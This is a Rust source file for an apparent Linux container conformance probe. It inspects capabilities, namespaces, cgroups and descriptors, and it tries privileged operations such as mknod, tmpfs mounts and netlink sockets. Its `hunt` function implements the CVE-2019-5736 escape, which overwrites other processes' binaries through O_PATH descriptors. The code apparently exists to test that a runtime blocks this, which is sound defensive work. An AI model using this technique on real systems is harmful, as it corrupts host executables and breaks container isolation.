/*! What the probe sees and tries on Linux alone. */

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;

use conformance::{Report, kernel};
use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
use nix::mount::{MsFlags, mount};
use nix::sys::resource::{Resource, getrlimit};
use nix::sys::signal::{SigSet, Signal};
use nix::sys::socket::AddressFamily;
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use serde_json::{Value, json};

use crate::{names, open_socket, say, sys};

/// What a report has beside.
pub(crate) fn complete(report: &mut Report) {
    let text = |path: &str| fs::read_to_string(path).unwrap_or_default().trim_end().to_owned();
    report.caps =
        ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"].map(|set| (set.to_owned(), kernel::mask(set))).into();
    report.no_new_privs = kernel::status("NoNewPrivs").parse().unwrap_or(u64::MAX);
    report.seccomp = kernel::status("Seccomp").parse().unwrap_or(u64::MAX);
    report.domainname = text("/proc/sys/kernel/domainname");
    report.fds = descriptors();
    report.ns = namespaces();
    report.oom_score_adj = text("/proc/self/oom_score_adj").parse().unwrap_or(i32::MIN);
    report.cgroup = text("/proc/self/cgroup");
    report.uid_map = text("/proc/self/uid_map");
    report.gid_map = text("/proc/self/gid_map");
    report.timens = text("/proc/self/timens_offsets");
    for (name, limit) in [("RLIMIT_AS", Resource::RLIMIT_AS), ("RLIMIT_SIGPENDING", Resource::RLIMIT_SIGPENDING)] {
        report.rlimits.extend(getrlimit(limit).ok().map(|limits| (name.to_owned(), limits)));
    }
}

/// The descriptor that lists the directory is among the names, and gone when its link is read.
fn descriptors() -> BTreeMap<i32, String> {
    let names = names("/proc/self/fd");
    let link = |name: &String| {
        let to = fs::read_link(format!("/proc/self/fd/{name}")).ok()?;
        Some((name.parse().ok()?, to.display().to_string()))
    };
    names.iter().filter_map(link).collect()
}

/// Major and minor number of a device.
pub(crate) fn device(number: u64) -> (u64, u64) {
    (nix::sys::stat::major(number), nix::sys::stat::minor(number))
}

/// Namespace name to inode.
pub(crate) fn namespaces() -> BTreeMap<String, u64> {
    let inode = |name: &str| Some((name.to_owned(), fs::metadata(format!("/proc/self/ns/{name}")).ok()?.ino()));
    ["cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"].into_iter().filter_map(inode).collect()
}

/// What a process may try.
pub(crate) fn attempt(words: &[&str]) -> io::Result<Value> {
    match words {
        ["keyring"] => sys::session_keyring().map(|serial| json!(serial)),
        ["mknod", path, major, minor] => {
            let number = |text: &str| text.parse::<u64>().map_err(io::Error::other);
            let dev = makedev(number(major)?, number(minor)?);
            mknod(*path, SFlag::S_IFCHR, Mode::from_bits_truncate(0o666), dev)?;
            Ok(Value::Null)
        }
        ["mount-tmpfs", path] => {
            mount(Some("tmpfs"), *path, Some("tmpfs"), MsFlags::empty(), None::<&str>)?;
            Ok(Value::Null)
        }
        ["socket", "netlink"] => open_socket(AddressFamily::Netlink),
        _ => Err(io::Error::from_raw_os_error(libc::ENOTSUP)),
    }
}

/// Swaps two names at once.
pub(crate) fn exchange(a: &str, b: &str) -> io::Result<()> {
    Ok(renameat2(AT_FDCWD, a, AT_FDCWD, b, RenameFlags::RENAME_EXCHANGE)?)
}

/// The attack of CVE-2019-5736: keep an O_PATH descriptor of a foreign process's binary, and write once it has ended.
pub(crate) fn hunt() -> io::Result<()> {
    let mut term = SigSet::empty();
    term.add(Signal::SIGTERM);
    let mut prey: BTreeMap<String, File> = BTreeMap::new();
    let mut hits = Vec::new();
    term.thread_block()?;
    say("ready")?;
    while !pending(&term) {
        for pid in kernel::pids() {
            let exe = format!("/proc/{pid}/exe");
            let Ok(link) = fs::read_link(&exe) else { continue };
            if link == Path::new("/probe") || prey.contains_key(&format!("{pid} {}", link.display())) {
                continue;
            }
            if let Ok(file) = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&exe) {
                prey.insert(format!("{pid} {}", link.display()), file);
            }
        }
        for (name, file) in &prey {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            if let Ok(mut file) = OpenOptions::new().write(true).open(path) {
                file.write_all(b"#!/pwned\n")?;
                hits.push(name.clone());
            }
        }
    }
    say(&json!({"seen": prey.keys().collect::<Vec<_>>(), "hits": hits}).to_string())
}

fn pending(set: &SigSet) -> bool {
    let mask = kernel::mask("ShdPnd") | kernel::mask("SigPnd");
    set.iter().any(|signal| mask & (1 << (signal as i32 - 1)) != 0)
}
